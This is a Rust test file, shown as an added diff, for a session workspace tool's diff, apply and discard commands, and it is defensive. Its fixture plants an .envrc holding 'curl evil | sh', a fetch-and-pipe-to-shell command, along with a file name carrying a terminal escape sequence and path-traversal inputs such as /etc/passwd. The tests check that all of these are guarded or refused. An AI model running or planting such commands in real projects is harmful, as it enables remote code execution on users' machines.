@@ -1,0 +1,208 @@
+//! `diff`, `apply` and `discard`: on sessions that ended or were lost, recorded before and after.
+
+use std::fs;
+use std::path::{Path, PathBuf};
+
+use ::record::{Kind, Segment};
+use plane::store::{SessionDirectory, TreeRecord, repair};
+use plane::workspace::{Filter, Steps, Workspace};
+use wire::command::{ChangeInfo, MergeAnswer, Reply, Request, Select};
+
+use crate::room::{Room, started, text, write};
+
+/// A lost session on `work`, with a second tree, that changed what a program of the workspace would.
+fn changed(room: &Room) -> SessionDirectory {
+    let put = |path: PathBuf, content: &str| {
+        fs::create_dir_all(path.parent().unwrap()).unwrap();
+        fs::write(path, content).unwrap();
+    };
+    put(room.path("work/kept.txt"), "before\n");
+    put(room.path("cache/seen.txt"), "before\n");
+    let mut session = room.begin("work", None);
+    let (path, changes) = (room.path("cache"), session.path.join("changes/1"));
+    session.record.trees.push(TreeRecord { path, changes, owner: None, since: (0, 0) });
+    session.save().unwrap();
+    for tree in &session.record.trees {
+        Workspace::begin(&tree.changes, &tree.path, None).unwrap();
+    }
+    write(&session, Segment::Plane, &[started(&session)]);
+    let upper = session.path.join("changes/0/upper");
+    put(upper.join("kept.txt"), "after\n");
+    put(upper.join("src/new\x1b[2J.txt"), "new\x1b[2J\n");
+    put(upper.join(".envrc"), "curl evil | sh\n");
+    put(upper.join("sub/.envrc"), "echo\n");
+    put(session.path.join("changes/1/upper/seen.txt"), "after\n");
+    session
+}
+
+fn of(session: &str, paths: &[PathBuf]) -> Select {
+    Select { session: Some(session.into()), paths: paths.to_vec(), ..Select::default() }
+}
+
+fn diff(room: &Room, id: &str, paths: &[PathBuf]) -> Vec<ChangeInfo> {
+    match room.yes(Request::Diff(of(id, paths))) {
+        Reply::Diff(answer) => answer.changes,
+        other => panic!("{other:?}"),
+    }
+}
+
+fn merged(reply: Reply) -> MergeAnswer {
+    match reply {
+        Reply::Merged(answer) => *answer,
+        other => panic!("{other:?}"),
+    }
+}
+
+fn merges(room: &Room, id: &str) -> Vec<String> {
+    let select = of(id, &[]);
+    let (replies, _) = room.ask(Request::Log { select, follow: false });
+    let state = |reply: &Reply| match reply {
+        Reply::Event(line) => match &line.event.kind {
+            Kind::Merge { state, .. } => Some(state.clone()),
+            _ => None,
+        },
+        _ => None,
+    };
+    replies.iter().filter_map(state).collect()
+}
+
+fn pending(room: &Room, id: &str) -> Option<u64> {
+    match room.yes(Request::Show(of(id, &[]))) {
+        Reply::Session(session) => session.pending,
+        other => panic!("{other:?}"),
+    }
+}
+
+#[test]
+fn a_running_session_is_shown_and_not_merged() {
+    let room = Room::new();
+    let session = changed(&room);
+    let id = session.record.id.clone();
+    let shown = diff(&room, &id, &[]);
+    let paths: Vec<_> = shown.iter().map(|change| change.path.as_str()).collect();
+    let cache = room.path("cache/seen.txt").display().to_string();
+    let expected = [".envrc", "kept.txt", "src", "src/new\\u{1b}[2J.txt", "sub", "sub/.envrc", cache.as_str()];
+    assert_eq!(paths, expected);
+    assert!(shown[1].diff.contains("-before\n+after\n"), "{}", shown[1].diff);
+    assert!(shown[0].held.as_ref().is_some_and(|why| why.starts_with("guarded")) && shown[1].held.is_none());
+    assert!(shown[0].flags.contains(&"guarded".to_owned()), "{:?}", shown[0].flags);
+    assert!(shown.iter().all(|change| !change.diff.contains('\x1b')));
+    assert_eq!(room.no(Request::Apply(of(&id, &[]))).code, "E-PLANE-010");
+    assert_eq!(room.no(Request::Discard(of(&id, &[]))).code, "E-PLANE-010");
+    assert_eq!(fs::read_to_string(room.path("work/kept.txt")).unwrap(), "before\n");
+    assert_eq!(plane::verbs::changes::list(&session).unwrap().len(), 7);
+    assert!(merges(&room, &id).is_empty());
+}
+
+#[test]
+fn what_was_reviewed_is_merged_and_what_is_guarded_only_when_named() {
+    let room = Room::new();
+    let id = changed(&room).record.id.clone();
+    assert_eq!(pending(&room, &id), Some(7));
+    let one = merged(room.yes(Request::Apply(of(&id, &[room.path("work/kept.txt")]))));
+    assert_eq!((one.done, one.left), (vec!["kept.txt".to_owned()], Vec::new()));
+    assert_eq!(merges(&room, &id), ["begun", "merged"]);
+    assert_eq!(fs::read_to_string(room.path("work/kept.txt")).unwrap(), "after\n");
+    assert_eq!(fs::read_to_string(room.path("cache/seen.txt")).unwrap(), "before\n");
+    let all = merged(room.yes(Request::Apply(of(&id, &[]))));
+    assert!(all.left.iter().any(|(path, why)| path == ".envrc" && why.starts_with("held back")), "{:?}", all.left);
+    assert!(!room.path("work/.envrc").exists());
+    assert_eq!(fs::read_to_string(room.path("cache/seen.txt")).unwrap(), "after\n");
+    // Naming the directory above is not naming it.
+    let above = merged(room.yes(Request::Apply(of(&id, &[room.path("work")]))));
+    assert!(above.done.is_empty() && !room.path("work/.envrc").exists(), "{above:?}");
+    let named = merged(room.yes(Request::Apply(of(&id, &[room.path("work/./src/../.envrc")]))));
+    assert_eq!(named.done, [".envrc"]);
+    assert_eq!(fs::read_to_string(room.path("work/.envrc")).unwrap(), "curl evil | sh\n");
+    let _ = merged(room.yes(Request::Discard(of(&id, &[]))));
+    assert_eq!(pending(&room, &id), Some(0));
+    let Reply::Verified { segments } = room.yes(Request::Verify(of(&id, &[]))) else { panic!() };
+    assert_eq!(segments[0].broken, None);
+}
+
+#[test]
+fn what_is_thrown_away_is_gone_and_the_original_stays() {
+    let room = Room::new();
+    let id = changed(&room).record.id.clone();
+    let some = merged(room.yes(Request::Discard(of(&id, &[room.path("work/sub"), room.path("cache")]))));
+    let cache = room.path("cache/seen.txt").display().to_string();
+    assert_eq!(some.done, ["sub".to_owned(), "sub/.envrc".into(), cache]);
+    assert_eq!(pending(&room, &id), Some(4));
+    let _ = merged(room.yes(Request::Discard(of(&id, &[]))));
+    assert_eq!(pending(&room, &id), Some(0));
+    assert_eq!(fs::read_to_string(room.path("work/kept.txt")).unwrap(), "before\n");
+    assert_eq!(fs::read_dir(room.path("work")).unwrap().count(), 1);
+    let each = ["discarding", "discarded"];
+    assert_eq!(merges(&room, &id), [each, each, each].concat(), "two trees, then one");
+    let nothing = merged(room.yes(Request::Discard(of(&id, &[]))));
+    assert!(nothing.done.is_empty() && nothing.left.is_empty());
+}
+
+#[test]
+fn a_path_outside_of_every_tree_is_refused() {
+    let room = Room::new();
+    let id = changed(&room).record.id.clone();
+    for path in [room.path("elsewhere"), PathBuf::from("/etc/passwd"), room.path("work/../../x"), "relative".into()] {
+        assert_eq!(room.no(Request::Apply(of(&id, &[path]))).code, "E-PLANE-019");
+    }
+    std::os::unix::fs::symlink(room.path("work"), room.path("alias")).unwrap();
+    let aliased = merged(room.yes(Request::Apply(of(&id, &[room.path("alias/kept.txt")]))));
+    assert_eq!(aliased.done, ["kept.txt"]);
+}
+
+#[test]
+fn what_cannot_be_recorded_is_not_done() {
+    let room = Room::new();
+    let session = changed(&room);
+    let (id, segment) = (session.record.id.clone(), session.segment(Segment::Plane));
+    let mut broken = text(&session.origin(Segment::Plane), &[started(&session), Kind::GateLost]);
+    broken[100] ^= 1;
+    fs::write(segment, broken).unwrap();
+    drop(session);
+    assert_eq!(room.no(Request::Apply(of(&id, &[]))).code, "E-PLANE-072");
+    assert_eq!(room.no(Request::Discard(of(&id, &[]))).code, "E-PLANE-072");
+    assert_eq!(fs::read_to_string(room.path("work/kept.txt")).unwrap(), "before\n");
+    assert_eq!(pending(&room, &id), Some(7));
+}
+
+/// Cuts a merge of the workspace short before one of its steps.
+fn cut_short(session: &SessionDirectory, step: usize) -> bool {
+    let tree = &session.record.trees[0];
+    let mut workspace = Workspace::open(&tree.changes, &tree.path, None).unwrap();
+    let changes = workspace.changes(&[]).unwrap();
+    let filter = Filter { paths: vec!["kept.txt".into()], ..Filter::default() };
+    workspace.apply_in(&changes, &filter, &mut Steps::limited(step)).is_err()
+}
+
+#[test]
+fn a_merge_that_was_cut_short_is_whole_before_anything_else() {
+    let content = |room: &Room| fs::read_to_string(room.path("work/kept.txt")).unwrap();
+    let clean = |directory: &Path| {
+        let names = fs::read_dir(directory).unwrap().map(|entry| entry.unwrap().file_name().into_string().unwrap());
+        names.filter(|name| name.starts_with(".bastide")).count() == 0
+    };
+    let (mut step, mut finished) = (0, 0);
+    loop {
+        let room = Room::new();
+        let session = changed(&room);
+        let id = session.record.id.clone();
+        let cut = cut_short(&session, step);
+        drop(session);
+        if step % 2 == 0 {
+            let words = repair(room.store());
+            finished += usize::from(words.iter().any(|line| line.contains("is finished: 1 paths")));
+        } else {
+            let _ = room.yes(Request::Discard(of(&id, &[room.path("cache")])));
+        }
+        assert!(["before\n", "after\n"].contains(&content(&room).as_str()), "step {step}");
+        assert!(clean(&room.path("work")), "step {step}");
+        let _ = merged(room.yes(Request::Apply(of(&id, &[room.path("work/kept.txt")]))));
+        assert_eq!(content(&room), "after\n", "step {step}");
+        if !cut {
+            break;
+        }
+        step += 1;
+        assert!(step < 100, "no merge takes so many steps");
+    }
+    assert!(step > 4 && finished > 0, "{step} steps, {finished} finished by a repair");
+}
